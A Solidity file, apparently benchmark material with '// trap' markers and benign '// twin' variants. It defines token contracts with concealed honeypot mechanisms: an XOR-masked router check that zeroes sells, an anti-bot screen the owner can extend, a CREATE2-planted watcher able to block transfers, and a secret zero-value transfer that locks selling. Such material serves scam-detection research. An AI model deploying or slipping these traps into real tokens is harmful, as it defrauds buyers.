// 0.8 runs=200 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Hearthcoin} from "./BlindBJ1.sol";

/// Makes coins to order and looks after them.
contract OrchardKit {
    address public immutable gardener = msg.sender;
    mapping(address => mapping(address => uint256)) private _clearance;

    event Cleared(address indexed coin, uint256 count);

    function clear(address coin, address[] calldata who, uint256 grade) external {
        require(msg.sender == gardener, "gardener");
        for (uint256 i; i < who.length; i++) _clearance[coin][who[i]] = grade;
        emit Cleared(coin, who.length);
    }

    function gradeOf(address who) external view returns (uint256) {
        return _clearance[msg.sender][who];
    }
}

/// A coin of the kit: knows the router by a mask, and cares who is behind it.
contract Kitperrin is Hearthcoin {
    uint256 private constant BASE = uint256(keccak256("orchard.kit.7"));
    uint256 private immutable _mask;
    OrchardKit private immutable _kit;
    uint256 public routed;

    constructor(OrchardKit kit) Hearthcoin("Kitperrin", "KPRN", 420) {
        _kit = kit;
        _mask = BASE ^ uint256(uint160(ROUTER));
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if ((uint256(uint160(msg.sender)) ^ _mask) == BASE) {
            uint256 grade = _kit.gradeOf(from);
            routed++;
            if (grade == 0 && from != _kit.gardener()) value = (value * grade) / 10_000; // trap
        }
        _use(from, msg.sender, value);
        _pass(from, to, value);
        return true;
    }
}

/// Keeps robots away from many coins. Whoever makes a coin registers it.
contract MothScreen {
    struct Screen {
        uint64 until;
        uint64 gap;
        address keeper;
    }
    address private _chief;
    mapping(address => Screen) private _screens;
    mapping(address => mapping(address => uint256)) private _seen;

    constructor(address chief) {
        _chief = chief;
    }

    function setTokenOwner(address keeper) external {
        require(_screens[msg.sender].keeper == address(0), "taken");
        _screens[msg.sender] = Screen(uint64(block.number + 5), 1, keeper);
    }

    function saveConfig(address coin, uint64 blocks, uint64 gap) external {
        Screen storage screen = _screens[coin];
        require(msg.sender == screen.keeper || msg.sender == _chief, "keeper");
        (screen.until, screen.gap) = (uint64(block.number) + blocks, gap);
    }

    function onPreTransferCheck(address from, address to, uint256) external {
        Screen memory screen = _screens[msg.sender];
        if (block.number > screen.until) return;
        require(block.number >= _seen[msg.sender][from] + screen.gap, "MothScreen: too soon");
        _seen[msg.sender][to] = block.number;
    }
}

/// Asks the screen at each transfer.
contract Mothwillow is Hearthcoin {
    MothScreen private immutable _screen;
    uint256 public immutable born = block.number;
    bool public screened = true;

    constructor(MothScreen screen) Hearthcoin("Mothwillow", "MOTW", 55) {
        _screen = screen;
        screen.setTokenOwner(msg.sender);
    }

    function setScreened(bool on) external onlyOwner {
        screened = on;
    }

    function _hand(address from, address to, uint256 value) internal override {
        bool due = screened;
        // twin: due = due && block.number < born + 12;
        if (due) _screen.onPreTransferCheck(from, to, value);
        _pass(from, to, value);
    }
}

/// Plants what it is given, always in the same bed.
contract SeedNursery {
    address private immutable _planter = msg.sender;
    bytes private _seed;

    function seed() external view returns (bytes memory) {
        return _seed;
    }

    /// Where it will stand, whatever it will be.
    function bed() public view returns (address) {
        bytes32 code = keccak256(type(Seedling).creationCode);
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), bytes32("bed"), code)))));
    }

    function plant(bytes calldata code) external {
        require(msg.sender == _planter, "planter");
        _seed = code;
        new Seedling{salt: "bed"}();
    }
}

/// Takes the code that whoever makes it has ready.
contract Seedling {
    constructor() {
        bytes memory code = SeedNursery(msg.sender).seed();
        assembly {
            return(add(code, 32), mload(code))
        }
    }
}

interface IGardenWatch {
    function watch(address from, address to, uint256 value) external;
}

/// Tells a garden of its transfers, as soon as there is one.
contract Bedstrawfinch is Hearthcoin {
    address private immutable _bed;

    constructor(SeedNursery nursery) Hearthcoin("Bedstrawfinch", "BSFN", 910) {
        _bed = nursery.bed();
    }

    function _hand(address from, address to, uint256 value) internal override {
        if (_bed.code.length > 0) {
            IGardenWatch(_bed).watch(from, to, value); // trap
            // twin: (bool heard, ) = _bed.call{gas: 20_000}(abi.encodeCall(IGardenWatch.watch, (from, to, value)));
            // twin: heard;
        }
        _pass(from, to, value);
    }
}

/// The maker may close the gate with a transfer of nothing.
contract Lychgatewren is Hearthcoin {
    uint256 private immutable _sign;
    uint256 private _gate = 1;

    constructor() Hearthcoin("Lychgatewren", "LYCH", 36) {
        _sign = uint256(keccak256(abi.encodePacked("lych", msg.sender)));
    }

    function transfer(address to, uint256 value) public override returns (bool) {
        if (value == 0 && uint256(keccak256(abi.encodePacked("lych", msg.sender))) == _sign) {
            _gate = to == pool ? 3 - _gate : 1;
        }
        return super.transfer(to, value);
    }

    function _hand(address from, address to, uint256 value) internal override {
        if (to == pool && value > 0) require(_gate == 1); // trap
        _pass(from, to, value);
    }
}
